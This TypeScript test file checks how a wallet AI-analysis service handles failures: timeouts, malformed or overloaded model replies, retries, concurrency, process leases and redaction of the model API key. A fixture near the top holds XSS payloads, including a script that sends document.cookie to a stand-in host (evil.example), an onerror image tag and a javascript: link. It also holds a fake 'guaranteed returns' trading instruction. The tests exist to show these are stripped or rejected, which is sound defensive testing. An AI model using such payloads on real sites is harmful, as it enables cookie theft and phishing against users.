/**
 * AI analysis when things go wrong, on every store backend, against a loopback chat-completions server: a model
 * timeout and malformed answers leave the wallet pending (nothing saved) and are retried; the queue runs a bounded
 * number at once; two API processes asking for one wallet generate it once; a crashed process's lease runs out; a
 * process that stops gives its generations back to the queue; the model key reaches the model and nothing else.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AnalysisQueue } from "../../src/ai/analysis-queue.js";
import { aiDb } from "../../src/ai/tables.js";
import { loadConfig } from "../../src/config/index.js";
import { storeBackends } from "../support/backends.js";
import { completion, type ChatReply } from "../support/chat-server.js";
import { goodAnswer, openAiWorld, openSecondApp, type AiWorld } from "../support/api/ai-analysis.js";

/** Markup a hostile model endpoint answered with (issue 45). */
const HOSTILE_MARKUP = [
  "[claim here](https://evil.example/phish), and the rest.",
  "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
  '<img src=x onerror="alert(1)"> <a href="javascript:alert(2)">more</a> www.evil.example',
].join("\n");

/** The good answer with `text` added to its summary. */
const withSummary = (facts: Record<string, any>, text: string): ChatReply => ({
  body: completion(
    (goodAnswer(facts).body as ReturnType<typeof completion>).choices[0]!.message.content.replace(
      "## Style",
      `${text}\n\n## Style`,
    ),
  ),
});

describe.each(storeBackends)("AI analysis failures on $kind", (backend) => {
  let t: AiWorld;
  const saved = (wallet: string) =>
    aiDb(t.w.store.db).selectFrom("ai_analyses").selectAll().where("wallet", "=", wallet).executeTakeFirst();
  const job = (wallet: string) =>
    aiDb(t.w.store.db).selectFrom("ai_analysis_jobs").selectAll().where("wallet", "=", wallet).executeTakeFirst();
  const asked = (wallet: string) => t.chat.requests.filter((r) => r.facts.wallet?.address === wallet).length;
  const answerWith = (reply: (facts: Record<string, any>) => ChatReply) =>
    (t.chat.respond = (request) => reply(request.facts));

  beforeAll(async () => {
    t = await openAiWorld({
      storeBackend: backend,
      env: { AI_MODEL_TIMEOUT_MS: "2000", AI_ANALYSIS_MAX_ATTEMPTS: "8", AI_ANALYSIS_CONCURRENCY: "2" },
    });
  }, 120_000);
  afterAll(async () => t?.close());

  it("leaves a timed-out or malformed answer pending, saves nothing of it, and retries until an answer passes", async () => {
    const wallet = t.wallets[0]!;
    const failures: Array<[string, (facts: Record<string, any>) => ChatReply]> = [
      ["timeout", (f) => ({ ...goodAnswer(f), delayMs: 6_000 })],
      ["malformed_answer", () => ({ body: completion("## Summary\nA fine trader.\n\n## Style\nBold.") })],
      ["malformed_answer", () => ({ body: "<html>Bad gateway</html>", contentType: "text/html" })],
      ["malformed_answer", () => ({ body: { choices: [] } })],
      [
        "unsupported_figure",
        (f) => ({
          body: completion(
            (goodAnswer(f).body as ReturnType<typeof completion>).choices[0]!.message.content.replace(
              "## Risks",
              "Expect $123,456.78 next week.\n\n## Risks",
            ),
          ),
        }),
      ],
      ["model_http_error", () => ({ status: 500, body: { error: { message: "model overloaded" } } })],
      // Issue 45's hostile endpoint: markup, and an instruction to trade with a claim of certain returns.
      [
        "trading_advice",
        (f) => withSummary(f, `${HOSTILE_MARKUP}\nBuy YES on every market it enters. Guaranteed returns.`),
      ],
    ];
    expect((await t.get(wallet)).body.status).toBe("pending");
    let attempts = 0;
    for (const [kind, reply] of failures) {
      answerWith(reply);
      const pending = (await job(wallet))!;
      t.w.clock.set(pending.next_attempt_at * 1000);
      await t.w.app.aiAnalysis.settle();
      attempts++;
      expect(await saved(wallet)).toBeUndefined();
      expect(await job(wallet)).toMatchObject({ attempts, last_error: kind, lease_owner: null });
      const shown = await t.get(wallet);
      expect(shown.status).toBe(404);
      expect(shown.body).toMatchObject({ status: "pending", attempts, last_error: kind });
      // The retry waits 30 s, doubling up to 600: longer than the queue's estimate, so the reply says that.
      expect(shown.body.retry_after_seconds).toBe(Math.min(600, 30 * 2 ** (attempts - 1)));
    }
    expect(asked(wallet)).toBe(failures.length);
    answerWith(goodAnswer);
    await t.w.app.aiAnalysis.settle();
    expect(asked(wallet)).toBe(failures.length);
    t.w.clock.set((await job(wallet))!.next_attempt_at * 1000);
    await t.w.app.aiAnalysis.settle();
    expect((await t.get(wallet)).body).toMatchObject({ status: "ready", generator: "model" });
    expect(await job(wallet)).toBeUndefined();
  });

  it("serves a model's report as plain text: its links, HTML and URLs removed, the names it quotes inert", async () => {
    const wallet = t.wallets[3]!;
    answerWith((f) => withSummary(f, HOSTILE_MARKUP));
    const generated = await t.generate(wallet, "?force=true");
    expect(generated.status).toBe(200);
    expect(generated.body.generator).toBe("model");
    const served = await t.get(wallet);
    expect(served.body.status).toBe("ready");
    const texts = [served.body.report, ...served.body.sections.map((s: { text: string }) => s.text)];
    for (const text of texts)
      for (const markup of ["<", ">", "](", "http", "www.", "javascript:", "evil.example"])
        expect(text, markup).not.toContain(markup);
    expect(served.body.sections[0].text).toContain("claim here, and the rest.");
    answerWith(goodAnswer);
    // The concurrency test below asks for this wallet afresh.
    await aiDb(t.w.store.db).deleteFrom("ai_analyses").where("wallet", "=", wallet).execute();
  });

  it("answers a failed generate call 502 and keeps the wallet queued for its retry", async () => {
    const wallet = t.wallets[1]!;
    answerWith(() => ({ status: 503, body: { error: { message: "loading model" } } }));
    const failed = await t.generate(wallet, "?force=true");
    expect(failed.status).toBe(502);
    expect(failed.body.detail).toContain("model_http_error");
    expect(await job(wallet)).toMatchObject({ attempts: 1, force: 1, last_error: "model_http_error" });
    answerWith(goodAnswer);
    t.w.clock.advance(30_000);
    await t.w.app.aiAnalysis.settle();
    expect((await t.get(wallet)).body.status).toBe("ready");
  });

  it("drops a wallet after AI_ANALYSIS_MAX_ATTEMPTS failures; the next GET queues it again", async () => {
    const wallet = t.wallets[1]!;
    await aiDb(t.w.store.db).deleteFrom("ai_analyses").where("wallet", "=", wallet).execute();
    answerWith(() => ({ status: 500, body: { error: { message: "down" } } }));
    expect((await t.get(wallet)).status).toBe(404);
    for (let attempt = 1; attempt <= 8; attempt++) {
      await t.w.app.aiAnalysis.settle();
      const left = await job(wallet);
      if (attempt < 8) t.w.clock.set(left!.next_attempt_at * 1000);
      else expect(left).toBeUndefined();
    }
    expect(asked(wallet)).toBeGreaterThanOrEqual(8);
    answerWith(goodAnswer);
    expect((await t.get(wallet)).body).toMatchObject({ status: "pending", attempts: 0 });
    await t.w.app.aiAnalysis.settle();
    expect((await t.get(wallet)).body.status).toBe("ready");
  });

  it("runs at most AI_ANALYSIS_CONCURRENCY generations at once", async () => {
    const wallets = t.wallets.slice(2, 7);
    answerWith((f) => ({ ...goodAnswer(f), delayMs: 150 }));
    t.chat.maxInFlight = 0;
    for (const wallet of wallets) expect((await t.get(wallet)).status).toBe(404);
    await t.w.app.aiAnalysis.settle();
    expect(t.chat.maxInFlight).toBe(2);
    for (const wallet of wallets) expect((await t.get(wallet)).body.status).toBe("ready");
  });

  it("generates a wallet once when two API processes ask for it at the same time", async () => {
    const other = await openSecondApp(t.w);
    try {
      const wallet = t.wallets[7]!;
      answerWith((f) => ({ ...goodAnswer(f), delayMs: 200 }));
      const url = `/api/v2/wallet/${wallet}/ai-analysis`;
      const headers = { "x-api-key": t.key };
      const answers = await Promise.all([t.w.app.inject({ url, headers }), other.app.inject({ url, headers })]);
      expect(answers.map((a) => a.statusCode)).toEqual([404, 404]);
      await Promise.all([t.w.app.aiAnalysis.settle(), other.app.aiAnalysis.settle()]);
      expect(asked(wallet)).toBe(1);
      const forced = await Promise.all(
        [t.w.app, other.app].map((app) => app.inject({ method: "POST", url: `${url}/generate?force=true` })),
      );
      expect(forced.map((f) => f.statusCode)).toEqual([200, 200]);
      expect(forced[0]!.json().generated_at).toBe(forced[1]!.json().generated_at);
      expect(asked(wallet)).toBe(2);
    } finally {
      await other.close();
    }
  });

  it("waits out the lease of a process that died while generating, then takes the wallet", async () => {
    const wallet = t.wallets[6]!;
    answerWith(goodAnswer);
    const now = t.w.clock.now();
    await aiDb(t.w.store.db).deleteFrom("ai_analyses").where("wallet", "=", wallet).execute();
    await aiDb(t.w.store.db)
      .insertInto("ai_analysis_jobs")
      .values({
        wallet,
        requested_at: now,
        force: 0,
        attempts: 0,
        next_attempt_at: now,
        last_error: null,
        lease_owner: "gone-host:1:dead",
        lease_until: now + 31,
      })
      .execute();
    const before = asked(wallet);
    await t.w.app.aiAnalysis.settle();
    expect(asked(wallet)).toBe(before);
    t.w.clock.advance(31_000);
    await t.w.app.aiAnalysis.settle();
    expect(asked(wallet)).toBe(before + 1);
    expect(await saved(wallet)).toMatchObject({ wallet, generator: "model" });
  });

  it("gives the generations of a process that stops back to the queue, and a new process finishes them", async () => {
    const wallets = t.wallets.slice(0, 3);
    for (const wallet of wallets)
      await aiDb(t.w.store.db).deleteFrom("ai_analyses").where("wallet", "=", wallet).execute();
    answerWith((f) => ({ ...goodAnswer(f), delayMs: 60_000 }));
    // The test's own app stops working the queue; a second one, patient with the model, takes the jobs and is stopped mid-generation.
    await t.w.app.aiAnalysis.stop();
    const first = await openSecondApp(
      t.w,
      loadConfig({
        AI_MODEL_BASE_URL: t.chat.baseUrl,
        AI_MODEL: "test-model",
        AI_MODEL_TIMEOUT_MS: "120000",
        AI_ANALYSIS_CONCURRENCY: "2",
      }),
    );
    for (const wallet of wallets)
      expect(
        (await first.app.inject({ url: `/api/v2/wallet/${wallet}/ai-analysis`, headers: { "x-api-key": t.key } }))
          .statusCode,
      ).toBe(404);
    await expect.poll(() => t.chat.inFlight, { timeout: 20_000 }).toBe(2);
    await first.close();
    for (const wallet of wallets)
      expect(await job(wallet)).toMatchObject({ attempts: 0, lease_owner: null, last_error: null });
    answerWith(goodAnswer);
    const restarted = await openSecondApp(t.w);
    try {
      await restarted.app.aiAnalysis.settle();
      for (const wallet of wallets) expect(await saved(wallet)).toMatchObject({ wallet, generator: "model" });
    } finally {
      await restarted.close();
    }
  });

  it("sends the model key to the model only: never to a log, the queue or an answer", async () => {
    const secret = "sk-test-" + "k3y".repeat(10);
    const lines: string[] = [];
    const log = {
      info: (o: object, m: string) => lines.push(JSON.stringify(o) + m),
      warn: (o: object, m: string) => lines.push(JSON.stringify(o) + m),
      error: (o: object, m: string) => lines.push(JSON.stringify(o) + m),
    };
    const config = loadConfig({
      AI_MODEL_BASE_URL: t.chat.baseUrl,
      AI_MODEL: "test-model",
      AI_MODEL_API_KEY: secret,
      AI_MODEL_TIMEOUT_MS: "1000",
    });
    const queue = new AnalysisQueue(
      { config, store: t.w.store, clock: t.w.clock, readiness: { ready: true } },
      log as never,
    );
    const wallet = t.wallets[5]!;
    answerWith(() => ({ status: 401, body: { error: { message: `Incorrect API key provided: ${secret}` } } }));
    queue.start();
    const failure = await queue.generateNow(wallet, true).catch((error: Error) => error);
    await queue.stop();
    expect(t.chat.requests.at(-1)!.headers.authorization).toBe(`Bearer ${secret}`);
    expect(failure).toMatchObject({ kind: "model_http_error" });
    expect(String((failure as Error).message)).toContain("[redacted]");
    expect(lines.join("\n")).toContain("ai analysis generation failed");
    expect(lines.join("\n")).not.toContain(secret);
    expect(JSON.stringify(await job(wallet))).not.toContain(secret);
    expect(JSON.stringify((await t.get(wallet)).body)).not.toContain(secret);
  });
});
